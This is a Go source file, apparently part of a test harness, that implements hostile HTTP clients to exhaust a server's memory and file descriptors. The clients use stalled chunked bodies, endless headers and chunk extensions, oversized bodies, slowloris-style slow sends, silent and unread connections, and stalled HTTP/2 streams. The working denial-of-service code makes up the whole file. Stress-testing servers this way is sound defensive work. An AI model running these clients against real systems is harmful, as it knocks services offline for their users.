package hostile

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"
)

const (
	// maxBody is the body limit of both targets in bytes.
	maxBody = 4 << 20
	// bodyChunk is the size of a large chunk in bytes.
	bodyChunk = 64 << 10
	// bodyCrowd members whose bodies are held exceed the memory of either VM.
	bodyCrowd = 64
	// idleCrowd members exceed connectionFiles.
	idleCrowd = 280
	// headerCrowd members whose headers are held in parsed form, which takes about 1 MB
	// each, exceed the memory of either VM.
	headerCrowd = 300
	// bodyFiles is the number of descriptors in attacks on memory: that of the smallest VM.
	bodyFiles = 2870
	// connectionFiles is the number of descriptors in attacks that use them up. After the
	// reserve of 200, 60 are left.
	connectionFiles = 260
	// headerBytes is what a member sends of a header without a pause: just below the
	// 64 KB that are accepted without a limit in the configuration.
	headerBytes = 60000
	// tooMuch is how much members send of a body that is far over the limit, in bytes,
	// unless their connection is closed before.
	tooMuch = 4 * maxBody
	// pipelined is the number of requests that a member sends without reading.
	pipelined = 1000
)

// attack is a kind of hostile client.
type attack struct {
	// openFiles is the process's limit of descriptors.
	openFiles int
	// run opens the connections and returns a function that closes them.
	run func(tg *target) (stop func())
}

// Attacks on the process's memory.
var (
	// stalledChunkedBodies are bodies in large chunks that stop one byte short.
	stalledChunkedBodies = attack{bodyFiles, func(tg *target) func() {
		chunk := chunkOf(bodyChunk)
		return startCrowd(tg, bodyCrowd, func(m *member) error {
			if err := m.send(tg.order("Transfer-Encoding: chunked")); err != nil {
				return err
			}
			if err := m.sendTimes(chunk, maxBody/bodyChunk-1); err != nil {
				return err
			}
			if err := m.send(chunk[:len(chunk)-len("x\r\n")]); err != nil {
				return err
			}
			return m.hold()
		})
	}}
	// stalledSmallChunks are bodies in chunks of one byte that stop one byte short.
	stalledSmallChunks = attack{bodyFiles, func(tg *target) func() {
		const perWrite = 1 << 14
		chunks := bytes.Repeat(chunkOf(1), perWrite)
		return startCrowd(tg, bodyCrowd, func(m *member) error {
			if err := m.send(tg.order("Transfer-Encoding: chunked")); err != nil {
				return err
			}
			if err := m.sendTimes(chunks, maxBody/perWrite-1); err != nil {
				return err
			}
			if err := m.send(chunks[:len(chunks)-len("x\r\n")]); err != nil {
				return err
			}
			return m.hold()
		})
	}}
	// endlessExtensions are chunk extensions without an end, in one chunk or in many, and
	// endless trailers.
	endlessExtensions = attack{bodyFiles, func(tg *target) func() {
		kinds := []struct{ first, repeated string }{
			{"1;a=", strings.Repeat("x", 4096)},
			{"", strings.Repeat("1;a="+strings.Repeat("x", 64)+"\r\nx\r\n", 64)},
			{"0\r\n", strings.Repeat("Trailer-Line: value\r\n", 200)},
		}
		return startCrowd(tg, bodyCrowd, func(m *member) error {
			kind := kinds[m.index%len(kinds)]
			if err := m.send(append(tg.order("Transfer-Encoding: chunked"), kind.first...)); err != nil {
				return err
			}
			if err := m.sendTimes([]byte(kind.repeated), maxBody/len(kind.repeated)); err != nil {
				return err
			}
			return m.hold()
		})
	}}
	// announcedLargeBodies announce a body far over the limit and send it.
	announcedLargeBodies = attack{bodyFiles, func(tg *target) func() {
		return sendLargeBodies(tg, "Content-Length: "+strconv.Itoa(1<<40), make([]byte, bodyChunk))
	}}
	// unannouncedLargeBodies send bodies far over the limit without announcement.
	unannouncedLargeBodies = attack{bodyFiles, func(tg *target) func() {
		return sendLargeBodies(tg, "Transfer-Encoding: chunked", chunkOf(bodyChunk))
	}}
	// endlessHeaders send a header of small lines that never ends, line by line.
	endlessHeaders = attack{bodyFiles, func(tg *target) func() {
		return startCrowd(tg, headerCrowd, func(m *member) error {
			var first bytes.Buffer
			first.Write(bytes.TrimSuffix(tg.order(), []byte("\r\n")))
			line := 0
			for ; first.Len() < headerBytes; line++ {
				first.WriteString(headerLine(line))
			}
			if err := m.send(first.Bytes()); err != nil {
				return err
			}
			m.arrive()
			for ; m.crowd.ctx.Err() == nil; line++ {
				if err := m.send([]byte(headerLine(line))); err != nil {
					return err
				}
				sleep(m.crowd.ctx, 100*time.Millisecond)
			}
			return nil
		})
	}}
	// stalledStreams are stalled bodies on streams of one HTTP/2 connection.
	stalledStreams = attack{bodyFiles, runStalledStreams}
)

// Attacks on the process's connections.
var (
	// slowBodies send one byte a second.
	slowBodies = attack{connectionFiles, func(tg *target) func() {
		return startCrowd(tg, idleCrowd, func(m *member) error {
			if err := m.send(tg.order("Content-Length: 100000")); err != nil {
				return err
			}
			m.arrive()
			for m.crowd.ctx.Err() == nil {
				if err := m.send([]byte("x")); err != nil {
					return err
				}
				sleep(m.crowd.ctx, time.Second)
			}
			return nil
		})
	}}
	// unreadStreams are callers that read no response while a stream runs.
	unreadStreams = attack{connectionFiles, func(tg *target) func() {
		c := newCrowd(tg.address, true)
		c.start(idleCrowd, func(m *member) error {
			if err := m.send(tg.stream()); err != nil {
				return err
			}
			return m.hold()
		})
		return c.stop
	}}
	// silentConnections send nothing, or nothing after one answered request. Those with
	// an answered request alone exceed connectionFiles.
	silentConnections = attack{connectionFiles, func(tg *target) func() {
		const unused = 40
		return startCrowd(tg, idleCrowd+unused, func(m *member) error {
			if m.index < unused {
				return m.hold()
			}
			if err := m.send(tg.get(tg.answered)); err != nil {
				return err
			}
			if err := m.readAnswer(); err != nil {
				return err
			}
			return m.hold()
		})
	}}
	// unreadPipelines send many requests on a connection and read no response.
	unreadPipelines = attack{connectionFiles, func(tg *target) func() {
		c := newCrowd(tg.address, true)
		c.start(idleCrowd, func(m *member) error {
			for range pipelined {
				if err := m.send(tg.get(tg.wordy)); err != nil {
					// After a time-out the process has stopped reading; hold returns at once
					// if it has closed the connection.
					break
				}
				if m.crowd.ctx.Err() != nil {
					return nil
				}
			}
			return m.hold()
		})
		return c.stop
	}}
)

// startCrowd starts a crowd whose members read what the process sends.
func startCrowd(tg *target, size int, behave func(m *member) error) (stop func()) {
	c := newCrowd(tg.address, false)
	c.start(size, behave)
	return c.stop
}

// sendLargeBodies starts a crowd that sends bodies far over the limit in pieces, each with
// bodyChunk bytes of data. All members first stop just below the limit, so that a process
// that holds them holds all at once, whatever its speed.
func sendLargeBodies(tg *target, headerLine string, piece []byte) (stop func()) {
	return startCrowd(tg, bodyCrowd, func(m *member) error {
		if err := m.send(tg.order(headerLine)); err != nil {
			return err
		}
		if err := m.sendTimes(piece, maxBody/bodyChunk-1); err != nil {
			return err
		}
		m.meet()
		if err := m.sendTimes(piece, (tooMuch-maxBody)/bodyChunk); err != nil {
			return err
		}
		return m.hold()
	})
}

// chunkOf returns one chunk with n bytes of data.
func chunkOf(n int) []byte {
	return fmt.Appendf(nil, "%x\r\n%s\r\n", n, bytes.Repeat([]byte("x"), n))
}

// headerLine returns a header line of 6 bytes. Different lines have different names, as
// these take the most memory.
func headerLine(i int) string {
	const names = 46656 // of three letters and digits
	name := strconv.FormatInt(int64(i%names), 36)
	return strings.Repeat("x", 3-len(name)) + name + ":\r\n"
}

// runStalledStreams starts requests on one unencrypted HTTP/2 connection, each with a
// body that stops one byte short.
func runStalledStreams(tg *target) func() {
	protocols := &http.Protocols{}
	protocols.SetUnencryptedHTTP2(true)
	transport := &http.Transport{Protocols: protocols}
	c := newCrowd(tg.address, false)
	c.waiting.Store(bodyCrowd)
	for i := range bodyCrowd {
		once := &sync.Once{}
		c.wg.Go(func() {
			for c.ctx.Err() == nil {
				m := &member{crowd: c, index: i, once: once}
				sendStalledStream(c, m, transport, tg)
				m.arrive()
				sleep(c.ctx, reopenPause)
			}
		})
	}
	select {
	case <-c.together:
	case <-time.After(settleTime):
	}
	return func() {
		c.stop()
		transport.CloseIdleConnections()
	}
}

// sendStalledStream sends one request whose body stops one byte short, and waits for its
// end.
func sendStalledStream(c *crowd, m *member, transport *http.Transport, tg *target) {
	body, sender := io.Pipe()
	defer body.Close()
	go func() {
		piece := make([]byte, bodyChunk)
		for range maxBody/bodyChunk - 1 {
			if c.traffic.Add(bodyChunk) > trafficLimit {
				break
			}
			if _, err := sender.Write(piece); err != nil {
				return
			}
		}
		_, _ = sender.Write(piece[1:]) // the request may have ended
		m.arrive()
	}()
	req, err := http.NewRequestWithContext(c.ctx, http.MethodPost, "http://"+tg.address+tg.orderPath, body)
	if err != nil {
		return
	}
	req.Header = tg.header.Clone()
	req.Host = tg.host
	req.ContentLength = maxBody
	resp, err := transport.RoundTrip(req)
	if err != nil {
		return
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, resp.Body) // the process may end the stream at any time
}
